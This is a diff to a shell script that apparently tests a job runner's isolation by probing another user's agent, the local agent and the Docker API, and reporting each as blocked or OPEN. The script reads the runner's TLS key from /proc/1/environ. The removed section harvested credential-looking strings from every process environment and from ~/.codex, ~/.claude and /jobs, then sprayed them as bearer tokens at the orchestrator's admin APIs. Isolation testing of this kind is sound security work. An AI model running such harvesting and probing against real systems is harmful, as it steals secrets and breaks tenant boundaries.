@@ -1,5 +1,4 @@
-# Network attacks: bob's runner agent with and without TLS, this runner's own agent, the Docker API, and the
-# orchestrator's APIs with every credential-looking value this runner can find.
+# Network attacks: bob's runner agent with and without TLS, this runner's own agent, the Docker API.
 res() { printf 'RESULT|%s|%s|%s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n|' ' /' | cut -c1-500)"; }
 tcp() { timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>&1 | head -1 | sed 's/.*: //'; echo "exit=${PIPESTATUS[0]}"; }
 env1() { perl -0 -ne 'chomp; print $1 if /^\Q'"$1"'\E=(.*)/s' /proc/1/environ; }
@@ -12,11 +11,11 @@ res bob-tcp $v "bash /dev/tcp to bob's agent $BOB_IP:8443: $t"
 # 2. bob's agent over TLS: without a client certificate, and with this runner's own certificate and key
 dir=$(mktemp -d)
 env1 CCX_TLS_CERT > "$dir/own.crt"; env1 CCX_TLS_KEY > "$dir/own.key"
-tls() { r=$( (printf 'GET /health HTTP/1.0\r\n\r\n'; sleep 2) | timeout 6 openssl s_client -quiet -connect "$1" "${@:2}" 2>&1 \
+tls() { r=$( (printf 'GET /health HTTP/1.0\r\n\r\n'; sleep 2) | timeout 4 openssl s_client -quiet -connect "$1" "${@:2}" 2>&1 \
   | tr -d '\r' | grep -oiE 'HTTP/1\.[01] [0-9]+|alert [a-z ]*|refused|unreachable|Could not[a-z ]*' | sort -u | tr '\n' ';'); \
   echo "${r:-no answer}"; }
 a=$(tls "$BOB_IP:8443"); b=$(tls "$BOB_IP:8443" -cert "$dir/own.crt" -key "$dir/own.key")
-n=$(timeout 6 node -e '
+n=$(timeout 4 node -e '
   const tls = require("tls"), fs = require("fs");
   const s = tls.connect({host: process.argv[1], port: 8443, rejectUnauthorized: false,
     cert: fs.readFileSync(process.argv[2]), key: fs.readFileSync(process.argv[3])}, () => s.write("GET /health HTTP/1.0\r\n\r\n"));
@@ -30,7 +29,7 @@ res bob-tls $v "openssl without client cert: $a; with own runner cert: $b; node 
 # 3. this runner's own agent (reachable on 127.0.0.1) still wants the orchestrator's client certificate
 c=$(tls 127.0.0.1:8443 -cert "$dir/own.crt" -key "$dir/own.key")
 h=$(timeout 4 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8443; printf "GET /health HTTP/1.0\r\n\r\n" >&3; head -c 60 <&3' 2>&1 | tr -d '\r\0' | head -1)
-o=$(timeout 6 node -e '
+o=$(timeout 4 node -e '
   const tls = require("tls"), fs = require("fs");
   const s = tls.connect({host: "127.0.0.1", port: 8443, rejectUnauthorized: false,
     cert: fs.readFileSync(process.argv[1]), key: fs.readFileSync(process.argv[2])}, () => s.write("GET /health HTTP/1.0\r\n\r\n"));
@@ -64,31 +63,3 @@ for h in "$GATEWAY" host.docker.internal 172.17.0.1; do
   done
 done
 res docker-tcp $v "$out"
-
-# 6. the orchestrator's user and admin APIs with every credential-looking value found in this runner
-cand=$(mktemp)
-{ cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sed 's/^[^=]*=//'
-  grep -rahoE '[A-Za-z0-9._~+/=-]{12,}' "$HOME/.codex" "$HOME/.claude" /jobs 2>/dev/null | head -2000
-} | awk 'length($0) >= 8 && length($0) <= 4096' | sort -u > "$cand"
-r=$(timeout 25 node -e '
-  const http = require("http"), fs = require("fs");
-  const tokens = fs.readFileSync(process.argv[1], "utf8").split("\n").filter(t => t && !/[\r\n]/.test(t)).slice(0, 400);
-  const base = {host: process.argv[2], port: +process.argv[3]};
-  const get = (path, headers) => new Promise(ok => { const q = http.get({...base, path, headers, timeout: 3000},
-    r => { r.resume(); ok(r.statusCode); }); q.on("error", e => ok(e.code)); q.on("timeout", () => { q.destroy(); ok("timeout"); }); });
-  (async () => {
-    const health = await get("/health", {});
-    const counts = {};
-    for (const t of tokens) {
-      for (const [path, h] of [["/admin/slots", {}], ["/v1/models", {"X-CCX-User": "bob"}], ["/v1/jobs", {"X-CCX-User": "bob"}]]) {
-        let s; try { s = await get(path, {...h, Authorization: "Bearer " + t}); } catch (e) { s = "invalid-header"; }
-        counts[s] = (counts[s] || 0) + 1;
-      }
-    }
-    console.log("health=" + health + " candidates=" + tokens.length + " statuses=" + JSON.stringify(counts));
-  })();' "$cand" "$ORCH_HOST" "$ORCH_PORT" 2>&1 | tail -1)
-rm -f "$cand"
-v=blocked
-case "$r" in *health=200*) ;; *) v=OPEN ;; esac
-printf '%s' "$r" | grep -oE '"[^"]+":[0-9]+' | grep -v '^"401"' | grep -vq '^"invalid-header"' && v=OPEN
-res orchestrator-api $v "orchestrator at $ORCH_HOST:$ORCH_PORT: $r"
